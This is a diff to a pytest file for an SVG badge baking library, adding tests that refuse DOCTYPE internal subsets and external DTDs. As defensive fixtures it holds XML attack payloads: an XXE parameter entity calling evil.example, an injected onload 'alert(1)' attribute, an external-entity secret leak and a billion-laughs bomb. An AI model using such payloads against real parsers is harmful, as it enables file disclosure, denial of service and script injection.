@@ -6,6 +6,7 @@ import base64
 import json
 import time
 from collections.abc import Callable
+from pathlib import Path
 from xml.etree.ElementTree import Element
 
 import defusedxml.ElementTree
@@ -212,6 +213,54 @@ def test_image_without_badge_unbakes_to_none() -> None:
     assert unbake_svg(SMALL_SVG) is None
 
 
+# --- DOCTYPE: a bare one is inert, an internal subset is refused ----------------------------
+
+DESIGN_TOOL_SVG = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
+    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
+    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
+    b'<svg xmlns="http://www.w3.org/2000/svg" version="1.1" width="64" height="64">'
+    b'<circle cx="32" cy="32" r="30" fill="#c03"/></svg>\n'
+)
+
+
+@pytest.mark.parametrize("payload", [JWS, OB3_JSON])
+def test_an_svg_with_a_bare_doctype_bakes_and_unbakes(payload: str) -> None:
+    baked = bake_svg(DESIGN_TOOL_SVG, payload, version="3.0")
+    assert baked.startswith(DESIGN_TOOL_SVG[: DESIGN_TOOL_SVG.index(b"<svg")])
+    found = unbake(baked)
+    assert found is not None
+    assert found.text == payload
+
+
+def test_a_system_doctype_is_never_loaded(tmp_path: Path) -> None:
+    """The external DTD would define &secret;: it is not read, so the entity stays undefined."""
+    dtd = tmp_path / "secret.dtd"
+    dtd.write_text('<!ENTITY secret "LEAKED">', encoding="utf-8")
+    svg = (
+        f'<?xml version="1.0"?><!DOCTYPE svg SYSTEM "{dtd.as_uri()}">'
+        f'<svg xmlns="{SVG_NS}"><text>&secret;</text></svg>'
+    ).encode()
+    assert_refused_quickly(lambda: unbake_svg(svg), "undefined entity")
+
+
+@pytest.mark.parametrize(
+    "subset",
+    [
+        b"[]",
+        b'[<!ATTLIST svg onload CDATA "alert(1)">]',
+        b'[<!ENTITY % ext SYSTEM "https://evil.example/x.dtd"> %ext;]',
+        b"[<!NOTATION png SYSTEM 'image/png'>]",
+    ],
+    ids=["empty", "attribute-default", "parameter-entity", "notation"],
+)
+def test_a_doctype_with_an_internal_subset_is_refused(subset: bytes) -> None:
+    svg = b'<?xml version="1.0"?><!DOCTYPE svg ' + subset + b'><svg xmlns="' + SVG_NS.encode()
+    svg += b'"><circle r="1"/></svg>'
+    assert_refused_quickly(lambda: unbake_svg(svg), "internal subset")
+    assert_refused_quickly(lambda: bake_svg(svg, JWS, version="3.0"), "internal subset")
+
+
 # --- hostile and broken input --------------------------------------------------------------
 
 
@@ -222,8 +271,8 @@ def test_external_entity_is_refused() -> None:
         + OB3_NS.encode()
         + b'">&x;</credential></svg>'
     )
-    assert_refused_quickly(lambda: unbake_svg(xxe), "DTD")
-    assert_refused_quickly(lambda: bake_svg(xxe, JWS, version="3.0"), "DTD")
+    assert_refused_quickly(lambda: unbake_svg(xxe), "internal subset")
+    assert_refused_quickly(lambda: bake_svg(xxe, JWS, version="3.0"), "internal subset")
 
 
 def test_billion_laughs_is_refused() -> None:
@@ -234,8 +283,8 @@ def test_billion_laughs_is_refused() -> None:
         b'<?xml version="1.0"?><!DOCTYPE svg [' + entities + b"]>"
         b'<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>'
     )
-    assert_refused_quickly(lambda: unbake_svg(bomb), "DTD")
-    assert_refused_quickly(lambda: unbake(bomb), "DTD")
+    assert_refused_quickly(lambda: unbake_svg(bomb), "internal subset")
+    assert_refused_quickly(lambda: unbake(bomb), "internal subset")
 
 
 def test_two_badge_elements_are_refused() -> None:
